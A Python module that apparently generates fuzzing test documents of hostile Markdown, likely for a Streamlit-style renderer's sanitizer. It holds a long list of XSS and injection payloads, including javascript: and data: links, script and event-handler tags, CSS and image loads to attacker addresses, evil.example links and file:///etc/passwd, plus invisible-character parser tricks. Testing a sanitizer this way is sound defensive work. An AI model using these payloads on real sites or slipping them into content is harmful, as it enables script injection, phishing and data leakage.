"""Markdown written to make a page load, run, hide or forge something: seeded, as many documents as wanted.

`@` in a pattern stands for an address of the attacker, a new one each time. Half of a document is made of attacks in
the usual containers, the other half of the same pieces cut up and shuffled, where parsers begin to disagree.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable

ATTACKS = r"""
![a](@)
![a](<@>)
![a](@ "title")
!\[a](@)
\![a](@)
!\\[a](@)
\\![a](@)
\\\![a](@)
!&#91;a](@)
&#33;[a](@)
![a][ref]
![ref][]
![ref]
![a
b](@)
[![a](@)](@)
![![a](@)](@)
[a][ref]
[ref]: @
[ref]: <@>
[ref]:
 @
[a](javascript:window.stolen=1)
[a](JaVaScRiPt:window.stolen=1)
[a](java&#115;cript:window.stolen=1)
[a](&#106;avascript&colon;window.stolen=1)
[a](javascript\:window.stolen=1)
[a](<javascript:window.stolen=1>)
[a](vbscript:msgbox)
[a](data:text/html,<script>window.stolen=1</script>)
[a](data:image/svg+xml;base64,PHN2Zy8+)
[a](file:///etc/passwd)
[a](//evil.example/x)
[a](\\evil.example/x)
[a](/_stcore/health)
[a](#top)
[a](?first=0)
[https://bank.example](https://evil.example/)
[a](https://bank.example@evil.example/)
[a](https:evil.example)
[a](http&#58;//evil.example)
[a]( //evil.example )
[`a](data:x)`
`[a`](data:x)
[ref`]: //evil.example `
<javascript:window.stolen=1>
<data:text/html,x>
<file:///etc/passwd>
<@>
<img src=@>
<img src=x onerror="window.stolen=1">
<img
src="@">
<IMG SRC='@'/>
<svg><image href="@"/></svg>
<svg onload="window.stolen=1"></svg>
<script>window.stolen=1</script>
<script src="@"></script>
<iframe src="@"></iframe>
<object data="@"></object>
<embed src="@">
<link rel="stylesheet" href="@">
<link rel="prefetch" href="@">
<style>@import url(@); body{background:url(@)}</style>
<div style="background:url(@)">x</div>
<video poster="@" src="@"></video>
<audio src="@" autoplay></audio>
<meta http-equiv="refresh" content="0;url=@">
<base href="@">
<form action="@"><button>x</button></form>
<details open ontoggle="window.stolen=1"><summary>x</summary></details>
<a href="data:x">a</a>
<!-- ![a](@) -->
<!-- --> ![a](@)
<![CDATA[ ![a](@) ]]>
<?x ?> ![a](@)
:red[![a](@)]
:color[a]{foreground=red background="url(@)"}
:img[a]{src=@}
::img[a]{src=@}
:::img[![a](@)]
:streamlit:
:material/home:
:smile:
:small[:red-background[x]]
:help[![a](@)]
$$\includegraphics{@}$$
$\includegraphics[width=1em]{@}$
$\href{javascript:window.stolen=1}{a}$
$\url{@}$ $\htmlStyle{background:url(@)}{a}$
$a![b](@)c$
\(a![b](@)c\)
\[a![b](@)c\]
$x$ $5 ![a](@) $6
$`$![a](@)$`$
`![a](@)`
``![a](@)`
`a` ![a](@) `
\`![a](@)`
```mermaid
graph TD; A["<img src='@'>"]-->B; click A href "javascript:window.stolen=1"
```
> ```mermaid
> graph TD; A["![a](@)"]-->B
- x

      ```mermaid-x
      %%{init: {"themeCSS": "body{background:url(@)}"}}%%
      graph TD; A-->B
```m&#101;rmaid
graph TD; A-->B
```html
<img src="@">
```
```
![a](@)
~~~
![a](@)
~~~
``` ` ![a](@)
````
```
![a](@)
    ![a](@)
	![a](@)
[^1] and ![a][^1]
[^1]: ![a](@)
[^ref]: @
~![a](@)~
**![a](@)**
*!*[a](@)
!**[a](@)**
! [a](@)
!
[a](@)
| a | ![a](@) |
|---|---|
| ` | ![a](@) ` |
a | b
--|--
`x | ![a](@) `y | <data:x>`
|`|`x` <data:x> `z`|
www.evil.example
javascript:window.stolen=1
a://b ![a](@)
- [ ] ![a](@)
![a](@){width=10}
![a](@ =10x10)
[a]: @ "![b](@)"
""".strip("\n")
INVISIBLE = "\u200b\u200d\u202e\ufeff\U000e0021\u00ad\u2060\u034f\ufe0f\x00\x1b\x85\u2028"
CONTAINERS: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: f"words {text} words",
    lambda text: f"# {text}",
    lambda text: f"{text}\n===",
    lambda text: "> " + text.replace("\n", "\n> "),
    lambda text: "- " + text.replace("\n", "\n  "),
    lambda text: "1. x\n\n   " + text.replace("\n", "\n   "),
    lambda text: "> - > " + text.replace("\n", "\n>   > "),
    lambda text: "| a | b |\n|---|:-:|\n| x | " + text.replace("\n", " ") + " |",
    lambda text: "    " + text.replace("\n", "\n    "),
    lambda text: f"```\n{text}\n```\n{text}",
    lambda text: f"```\n{text}",
    lambda text: f"~~~md\n{text}\n```\n{text}\n~~~",
    lambda text: f"``` `x\n{text}",
    lambda text: f"`{text}`",
    lambda text: f"` {text}",
    lambda text: f"**{text}**",
    lambda text: f"[{text}](https://example.org/)",
    lambda text: f"[{text}]",
    lambda text: f"${text}$ and $x$",
    lambda text: f"$$\n{text}\n$$",
    lambda text: f"\\({text}\\)",
    lambda text: f"\\[\n{text}\n\\]",
    lambda text: f"<div>{text}</div>",
    lambda text: f"<div>\n\n{text}\n\n</div>",
    lambda text: f"<!-- {text} -->",
    lambda text: f":red[{text}]",
    lambda text: f":::x\n{text}\n:::",
    lambda text: f"[^n]: {text}\n\n[^n]",
    lambda text: f"\\{text}",
    lambda text: f"\\\\{text}",
    lambda text: text.replace("![", "!\x1b[0m["),
    lambda text: text.replace("![", "!\u200b["),
    lambda text: text.replace("\n", "\r"),
    lambda text: text.replace("\n", "\r\n\r\n"),
]
SEPARATORS = ["\n\n", "\n\n", "\n", " ", "", "\n\n---\n\n", "\n> ", "\n- ", "\n```\n", "\\\n", "  \n", "\t", "|"]


def documents(count: int, attacker: str, seed: int) -> list[str]:
    """`count` documents whose addresses begin with `attacker` (no slash at its end), the same for the same seed."""
    chance = random.Random(seed)
    attacks = _attacks()
    return [_filled(_document(chance, attacks), f"{attacker}/{number}") for number in range(count)]


def _attacks() -> list[str]:
    """Lines, and runs of lines that only work together."""
    lines = ATTACKS.split("\n") + [f"!{mark}[a](@)" for mark in INVISIBLE]
    together = [
        "\n".join(lines[at : at + length]) for length in (2, 3, 4) for at in range(len(lines)) if at % length == 0
    ]
    return [*lines, *lines, *together]


def _document(chance: random.Random, attacks: list[str]) -> str:
    if chance.random() < 0.6:
        parts = [_contained(chance, chance.choice(attacks)) for _ in range(chance.randint(2, 7))]
    else:
        soup = [piece for _ in range(6) for piece in re.findall(r"\w+|\s|\W", chance.choice(attacks))]
        for _ in range(chance.randint(1, len(soup) // 3 + 1)):
            first, second = chance.randrange(len(soup)), chance.randrange(len(soup))
            soup[first], soup[second] = soup[second], soup[first]
        parts = ["".join(soup), "\n\n[ref]: @\n\n", _contained(chance, chance.choice(attacks))]
    text = parts[0]
    for part in parts[1:]:
        text += chance.choice(SEPARATORS) + part
    return text[: chance.randint(len(text) // 2, len(text))] if chance.random() < 0.1 else text


def _contained(chance: random.Random, attack: str) -> str:
    for _ in range(chance.choice([0, 1, 1, 1, 2, 2, 3])):
        attack = chance.choice(CONTAINERS)(attack)
    return attack


def _filled(text: str, start: str) -> str:
    pieces = text.split("@")
    return pieces[0] + "".join(f"{start}/{number}.png{piece}" for number, piece in enumerate(pieces[1:]))
